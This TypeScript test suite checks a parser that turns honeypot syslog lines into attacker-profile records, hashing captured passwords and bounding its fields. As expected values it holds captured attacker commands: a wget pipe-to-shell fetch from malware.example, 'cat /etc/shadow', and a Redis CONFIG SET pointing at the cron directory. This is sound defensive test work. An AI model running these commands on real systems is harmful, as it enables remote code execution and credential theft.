// Honeypot service lines as DECNET's services write them (test/fixtures/syslog/decnet-services.log)
// mapped to profiler records; secrets hashed, never kept.
import { createHash, createHmac } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { type HoneypotOptions, type HoneypotRecord, honeypotRecord } from '../../../src/syslog/honeypot.js';
import { HONEYPOT_MAX_FIELD_CHARS, HONEYPOT_MAX_FIELDS } from '../../../src/syslog/limits.js';
import { parseRfc5424 } from '../../../src/syslog/parse.js';

const LINES = readFileSync(new URL('../../fixtures/syslog/decnet-services.log', import.meta.url), 'utf8')
  .split('\n')
  .filter((l) => l);

const sha256 = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');

function record(line: string, opts?: HoneypotOptions): HoneypotRecord {
  const p = parseRfc5424(line);
  if (!p.ok) throw new Error(`unparsed: ${p.error.code} ${line}`);
  const r = honeypotRecord(p.message, opts);
  if (!r.ok) throw new Error(`skipped: ${r.reason}`);
  return r.record;
}

const records = () => LINES.slice(0, -1).map((l) => record(l));

describe('DECNET service lines', () => {
  it('every fixture line parses; all but the sniffer line map to a record', () => {
    for (const l of LINES) expect(parseRfc5424(l).ok).toBe(true);
    const last = parseRfc5424(LINES.at(-1)!);
    expect(last.ok && honeypotRecord(last.message)).toEqual({ ok: false, reason: 'sensor_event' });
    expect(records()).toHaveLength(LINES.length - 1);
  });

  it('kinds, services, attackers and times', () => {
    expect(records().map((r) => [r.service, r.event_type, r.kind, r.src_ip, r.src_port])).toEqual([
      ['ftp', 'connection', 'connect', '203.0.113.7', 51234],
      ['ftp', 'user', 'other', null, null],
      ['ftp', 'auth_attempt', 'login_attempt', null, null],
      ['ftp', 'download_attempt', 'download', null, null],
      ['ftp', 'disconnect', 'disconnect', '203.0.113.7', 51234],
      ['auth-helper', 'auth_attempt', 'login_attempt', '198.51.100.23', null],
      ['sshd', '-', 'login_result', '198.51.100.23', 40022],
      ['sshd', '-', 'login_result', '198.51.100.23', 40022],
      ['bash', 'command', 'command', '198.51.100.23', null],
      ['bash', 'command', 'command', '198.51.100.23', null],
      ['ssh', 'file_captured', 'upload', '198.51.100.23', 40022],
      ['redis', 'connect', 'connect', '192.0.2.9', 60001],
      ['redis', 'command', 'command', '192.0.2.9', null],
      ['redis', 'auth', 'login_attempt', '192.0.2.9', null],
      ['redis', 'command', 'command', '192.0.2.9', null],
      ['mysql', 'auth', 'login_attempt', '192.0.2.10', null],
      ['smtp', 'auth_attempt', 'login_attempt', '192.0.2.44', null],
      ['http', 'http_request_fingerprint', 'request', '192.0.2.80', 41000],
      ['http', 'auth_attempt', 'login_attempt', '2001:db8::80', 41001],
      ['http', 'request', 'request', '192.0.2.80', null],
    ]);
    const [first] = records();
    expect(first).toMatchObject({ ts: '2026-06-20T10:00:00.123456Z', decky: 'decky-ftp' });
    expect(records()[2]!.ts).toBe('2026-06-20T10:00:02.000000Z');
  });

  it('login attempts: username and a SHA-256 of the secret bytes, never the secret', () => {
    const r = records();
    expect(r[2]!.fields).toEqual({
      username: 'admin',
      password_sha256: sha256('hunter2'),
      password_length: '7',
    });
    // secret_b64 is the lossless form: the NUL that secret_printable turned into '?' is hashed.
    expect(r[5]!.fields).toEqual({
      username: 'root',
      password_sha256: sha256(Buffer.from('p@ss"w0rd]\0')),
      password_length: '11',
    });
    // Python's str(None) for an absent principal is no username.
    expect(r[13]!.fields).toEqual({ password_sha256: sha256('s3cret'), password_length: '6' });
    expect(r[15]!.fields).toMatchObject({
      username: 'sa',
      secret_kind: 'mysql_native_password',
      connection_id: '4711',
    });
    expect(r[15]!.fields.password_sha256).toBe(sha256(Buffer.from('ABEiM0RVZneImaq7zN3u/wARIjM=', 'base64')));
    // SMTP writes the password in clear: hashed all the same.
    expect(r[16]!.fields).toEqual({
      username: 'info',
      password_sha256: sha256('Summer2024!'),
      password_length: '11',
    });
    expect(r[18]!.fields).toMatchObject({ username: 'wpadmin', secret_kind: 'plaintext' });
    const everything = JSON.stringify(r);
    for (const secret of [
      'hunter2',
      'p@ss',
      's3cret',
      'Summer2024',
      'letmein',
      'cEBzcyJ3',
      'aHVudGVy',
      'd3BhZG1pbjpsZXRtZWlu',
    ]) {
      expect(everything).not.toContain(secret);
    }
  });

  it('with a key, an HMAC instead of a bare hash', () => {
    const r = record(LINES[2]!, { passwordKey: 'k' });
    expect(r.fields).toEqual({
      username: 'admin',
      password_hmac: createHmac('sha256', 'k').update('hunter2').digest('hex'),
      password_length: '7',
    });
  });

  it("sshd's outcome lines are results, not attempts (the PAM helper reports the attempt)", () => {
    const r = records();
    expect(r[6]!.fields).toEqual({
      success: 'false',
      method: 'password',
      username: 'oracle',
      invalid_user: 'true',
    });
    expect(r[7]!.fields).toEqual({ success: 'true', method: 'password', username: 'root' });
  });

  it('bash CMD lines, Docker-wrapped or not, become commands with their context', () => {
    const r = records();
    expect(r[8]).toMatchObject({
      decky: 'decky-ssh',
      service: 'bash',
      ts: '2026-06-20T10:01:05.000000Z',
      fields: { command: 'wget -qO- http://malware.example/x.sh | sh', uid: '0', user: 'root', pwd: '/root' },
    });
    expect(r[9]!.fields).toEqual({
      command: 'cat /etc/shadow',
      uid: '1000',
      user: 'ubuntu',
      pwd: '/home/ubuntu',
    });
  });

  it('credential commands lose their arguments; others keep them', () => {
    const r = records();
    expect(r[12]!.fields).toEqual({ arguments_redacted: 'true', command: 'AUTH' });
    expect(r[14]!.fields).toEqual({ command: 'CONFIG', args: "['SET', 'dir', '/var/spool/cron']" });
  });

  it('downloads, uploads and requests keep their params; Authorization values are masked', () => {
    const r = records();
    expect(r[3]!.fields).toEqual({ path: '/backup/acme-prod-20240101.tar.gz' });
    expect(r[10]!.fields).toMatchObject({ orig_path: '/tmp/x.sh', size: '4096', ssh_user: 'root' });
    expect(r[17]!.fields.headers_ordered).toBe('["host", "user-agent", "accept-language"]');
    expect(r[19]!.fields.headers).toBe("{'User-Agent': 'curl/8.5.0', 'Authorization': '[redacted]'}");
  });
});

describe('edges', () => {
  const line = (sd: string, msg = '') =>
    `<134>1 2026-06-20T10:00:00+00:00 decky-x svc - auth_attempt ${sd}${msg ? ` ${msg}` : ''}`;

  it('skips lines without time or service', () => {
    const noTs = parseRfc5424('<134>1 - h svc - x -');
    expect(noTs.ok && honeypotRecord(noTs.message)).toEqual({ ok: false, reason: 'no_timestamp' });
    const noSvc = parseRfc5424('<134>1 2026-06-20T10:00:00Z h - - x -');
    expect(noSvc.ok && honeypotRecord(noSvc.message)).toEqual({ ok: false, reason: 'no_service' });
  });

  it('attacker IP: field priority, host:port, brackets, then MSG anchors, then a bare IPv4', () => {
    expect(record(line('[relay@55555 ip="10.0.0.9" src="10.0.0.8"]')).src_ip).toBe('10.0.0.8');
    expect(record(line('[relay@55555 remote_addr="10.0.0.7:5555"]'))).toMatchObject({
      src_ip: '10.0.0.7',
      src_port: 5555,
    });
    expect(record(line('[relay@55555 src_ip="not-an-ip"]', 'from 10.0.0.6 port 1')).src_ip).toBe('10.0.0.6');
    expect(record(line('-', 'rhost=2001:db8::5 user=x')).src_ip).toBe('2001:db8::5');
    expect(record(line('-', 'connection on 10.0.0.4 closed')).src_ip).toBe('10.0.0.4');
    expect(record(line('-', 'nothing here')).src_ip).toBeNull();
  });

  it('older SD-ID decnet@55555 and foreign elements are read', () => {
    expect(record(line('[origin@1 x="1"][decnet@55555 username="u" password="p"]')).fields.username).toBe(
      'u',
    );
    expect(record(line('[other@9 username="v"]')).fields.username).toBe('v');
  });

  it('a secret_b64 that is not base64 falls back to the clear form', () => {
    const r = record(line('[relay@55555 principal="u" secret_printable="pw" secret_b64="***"]'));
    expect(r.fields.password_sha256).toBe(sha256('pw'));
  });

  it('bounded: fields capped in number and length', () => {
    const many = Array.from(
      { length: HONEYPOT_MAX_FIELDS + 10 },
      (_, i) => `f${i}="${'v'.repeat(i === 0 ? 5000 : 1)}"`,
    );
    const r = record(`<134>1 2026-06-20T10:00:00Z h svc - x [relay@55555 ${many.join(' ')}]`);
    expect(Object.keys(r.fields)).toHaveLength(HONEYPOT_MAX_FIELDS);
    expect(r.fields.f0).toHaveLength(HONEYPOT_MAX_FIELD_CHARS);
    expect(r.truncated).toBe(true);
  });

  it('takes linear time on hostile MSG text', () => {
    const texts = [
      `from ${'a'.repeat(60_000)}`,
      `Failed x for ${' from a'.repeat(8000)}`,
      `CMD ${'k=v '.repeat(15_000)}cmd=x`,
      `x authorization: ${"'".repeat(30_000)}`,
    ];
    for (const t of texts) {
      const p = parseRfc5424(`<134>1 2026-06-20T10:00:00Z h svc - - [relay@55555 headers="${t}"] ${t}`, {
        maxBytes: 1 << 20,
      });
      expect(p.ok).toBe(true);
      const start = performance.now();
      if (p.ok) honeypotRecord(p.message);
      expect(performance.now() - start).toBeLessThan(500);
    }
    const sshd = parseRfc5424(
      `<38>1 2026-06-20T10:00:00Z h sshd 1 - - Failed x for ${' from a'.repeat(8000)}`,
    );
    const start = performance.now();
    if (sshd.ok) honeypotRecord(sshd.message);
    expect(performance.now() - start).toBeLessThan(500);
  });

  it('secrets are dropped from every kind, whatever the param case', () => {
    const r = record(
      '<134>1 2026-06-20T10:00:00Z h svc - request [relay@55555 Password="x1" token="x2" path="/"]',
    );
    expect(r.fields).toEqual({ path: '/' });
  });
});
